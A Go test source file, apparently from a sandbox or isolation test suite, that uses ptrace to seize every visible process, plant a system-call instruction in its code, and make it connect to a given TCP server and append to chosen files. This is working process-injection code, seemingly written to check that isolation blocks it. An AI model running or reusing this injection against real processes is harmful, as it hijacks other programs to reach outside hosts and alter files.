package siege_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

// tracee is a process that the attacker has stopped to make system calls in it.
type tracee struct {
	pid   int
	saved registers
	at    uintptr // of the instruction of the call
	code  []byte  // what stood there before it was planted; nil if it was there
}

// seize stops a process and takes control of it.
func seize(pid int) (*tracee, error) {
	if err := unix.PtraceAttach(pid); err != nil {
		return nil, fmt.Errorf("attach: %w", err)
	}
	p := &tracee{pid: pid}
	err := p.await()
	if err == nil {
		err = getRegisters(pid, &p.saved)
	}
	if err == nil {
		err = p.findCall()
	}
	if err != nil {
		unix.PtraceDetach(pid)
		return nil, err
	}
	return p, nil
}

// findCall looks for the instruction of a system call. A process that was stopped in one has it just before its program
// counter. Only where there is none it is planted, since all threads of a process have the same code: another one
// that comes by executes it, too, and the process may end.
func (p *tracee) findCall() error {
	there := make([]byte, len(callInstruction))
	p.at = programCounter(&p.saved) - uintptr(len(there))
	if _, err := unix.PtracePeekText(p.pid, p.at, there); err == nil && slices.Equal(there, callInstruction) {
		return nil
	}
	p.at = programCounter(&p.saved)
	if _, err := unix.PtracePeekText(p.pid, p.at, there); err != nil {
		return err
	}
	p.code = there
	_, err := unix.PtracePokeText(p.pid, p.at, callInstruction)
	return err
}

// release restores the process and lets it go.
func (p *tracee) release() {
	if p.code != nil {
		unix.PtracePokeText(p.pid, p.at, p.code)
	}
	setRegisters(p.pid, &p.saved)
	unix.PtraceDetach(p.pid)
}

func (p *tracee) await() error {
	var status unix.WaitStatus
	for {
		_, err := unix.Wait4(p.pid, &status, unix.WALL, nil)
		switch {
		case err == unix.EINTR:
		case err != nil:
			return fmt.Errorf("wait: %w", err)
		case !status.Stopped():
			return fmt.Errorf("it ended (%v)", status)
		default:
			return nil
		}
	}
}

// room is where arguments are put: below the stack pointer and the red zone that the compiler may use.
func (p *tracee) room() uintptr { return stackPointer(&p.saved)&^15 - 1024 }

// put writes bytes into the process and returns their address.
func (p *tracee) put(b []byte) (uintptr, error) {
	_, err := unix.PtracePokeData(p.pid, p.room(), b)
	return p.room(), err
}

// call has the process make a system call; a negative result is an errno.
func (p *tracee) call(number uintptr, args ...uintptr) (int, error) {
	r := p.saved
	var six [6]uintptr
	copy(six[:], args)
	prepareCall(&r, number, six)
	setProgramCounter(&r, p.at)
	if err := setRegisters(p.pid, &r); err != nil {
		return 0, err
	}
	if err := unix.PtraceSingleStep(p.pid); err != nil {
		return 0, err
	}
	if err := p.await(); err != nil {
		return 0, err
	}
	if err := getRegisters(p.pid, &r); err != nil {
		return 0, err
	}
	return resultOf(&r), nil
}

// connect makes the process send a text to a TCP server.
func (p *tracee) connect(server netip.AddrPort, word string) string {
	sa := unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: server.Addr().As4()}
	*(*[2]byte)(unsafe.Pointer(&sa.Port)) = [2]byte{byte(server.Port() >> 8), byte(server.Port())}
	fd, err := p.call(unix.SYS_SOCKET, unix.AF_INET, unix.SOCK_STREAM)
	if err != nil || fd < 0 {
		return fmt.Sprintf("socket: %d, %v", fd, err)
	}
	defer p.call(unix.SYS_CLOSE, uintptr(fd))
	at, err := p.put((*[unix.SizeofSockaddrInet4]byte)(unsafe.Pointer(&sa))[:])
	if err != nil {
		return err.Error()
	}
	result, err := p.call(unix.SYS_CONNECT, uintptr(fd), at, unix.SizeofSockaddrInet4)
	if err != nil || result < 0 {
		return fmt.Sprintf("connect: %d, %v", result, err)
	}
	return p.write(fd, word)
}

// overwrite makes the process write to a file.
func (p *tracee) overwrite(path, word string) string {
	at, err := p.put(append([]byte(path), 0))
	if err != nil {
		return err.Error()
	}
	here := unix.AT_FDCWD
	fd, err := p.call(unix.SYS_OPENAT, uintptr(here), at, unix.O_WRONLY|unix.O_CREAT|unix.O_APPEND, 0o666)
	if err != nil || fd < 0 {
		return fmt.Sprintf("open: %d, %v", fd, err)
	}
	defer p.call(unix.SYS_CLOSE, uintptr(fd))
	return p.write(fd, word)
}

func (p *tracee) write(fd int, word string) string {
	at, err := p.put([]byte(word))
	if err != nil {
		return err.Error()
	}
	result, err := p.call(unix.SYS_WRITE, uintptr(fd), at, uintptr(len(word)))
	return fmt.Sprintf("write to descriptor %d: %d, %v", fd, result, err)
}

// attackInject makes every visible process connect to a server and write to files: SERVER FILE…
func attackInject(args []string) {
	server := netip.MustParseAddrPort(args[0])
	for _, pid := range visible() {
		p, err := seize(pid)
		if err != nil {
			fmt.Printf("process %d: %v\n", pid, err)
			continue
		}
		word := fmt.Sprintf("by process %d", pid)
		told := []string{p.connect(server, word)}
		for _, path := range args[1:] {
			told = append(told, p.overwrite(path, word))
		}
		p.release()
		fmt.Printf("process %d, seized: %s\n", pid, strings.Join(told, "; "))
	}
}
